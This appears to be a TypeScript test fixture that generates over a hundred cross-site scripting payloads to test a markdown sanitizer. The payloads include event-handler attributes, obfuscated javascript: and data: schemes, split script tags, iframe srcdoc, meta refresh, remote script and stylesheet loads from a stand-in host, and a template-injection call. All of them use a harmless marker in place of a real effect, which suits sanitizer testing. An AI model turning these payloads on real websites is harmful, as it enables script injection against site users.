/** What each payload tries to run; the test looks whether it did. */
const deed = "window.stolen=1";

const handlers = ["onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin"];
const elements = ["img src=x", "svg", "body", "details open", "video src=x", "input autofocus"];

const elementPayloads = elements.flatMap((element) =>
  handlers.map((handler) => `<${element} ${handler}=${deed}>`),
);

const schemes = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "&#106;avascript:",
  "&#x6A;avascript:",
  "javascript&colon;",
  "%6aavascript:",
  "\\javascript:",
  "vbscript:",
  "data:text/html,<script>",
  "data:image/svg+xml,<svg onload=",
  "blob:https://elsewhere.invalid/",
  "file:///etc/",
  "//elsewhere.invalid/",
];

const linkPayloads = schemes.flatMap((scheme) => [
  `[link](${scheme}${deed})`,
  `[link](<${scheme}${deed}>)`,
  `![image](${scheme}${deed})`,
  `<${scheme}${deed}>`,
]);

const shapes = [
  `<script>${deed}</script>`,
  `<scr<script>ipt>${deed}</scr</script>ipt>`,
  `<script src=https://elsewhere.invalid/x.js></script>`,
  `<iframe srcdoc="<script>parent.${deed}</script>"></iframe>`,
  `<object data="data:text/html,<script>${deed}</script>"></object>`,
  `<embed src="javascript:${deed}">`,
  `<form action="javascript:${deed}"><button>x</button></form>`,
  `<math href="javascript:${deed}">x</math>`,
  `<style>@import "https://elsewhere.invalid/x.css";</style>`,
  `<base href="https://elsewhere.invalid/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${deed}">`,
  `<link rel=stylesheet href=https://elsewhere.invalid/x.css>`,
  `<noscript><p title="</noscript><img src=x onerror=${deed}>">`,
  `![x](https://elsewhere.invalid/pixel.png)`,
  `![x](/objects/../api/auth/logout)`,
  `![x" onerror="${deed}](x)`,
  `[x](https://a.net "\\" onmouseover=${deed})`,
  `[x]: javascript:${deed}\n\n[x]`,
  `\`\`\`js\n</code></pre><img src=x onerror=${deed}>\n\`\`\``,
  `\`\`\`"><img src=x onerror=${deed}>\nx\n\`\`\``,
  `| a |\n| - |\n| <img src=x onerror=${deed}> |`,
  `> <svg/onload=${deed}>`,
  `- [ ] <img src=x onerror=${deed}>`,
  `# <svg/onload=${deed}>`,
  `{{constructor.constructor('${deed}')()}}`,
];

/** More than a hundred ways to run something out of a markdown text. */
export const hostilePayloads: readonly string[] = [...elementPayloads, ...linkPayloads, ...shapes];

/** All of them as one text, each a block of its own. */
export const hostileMarkdown = [...hostilePayloads, "the last line"].join("\n\n");
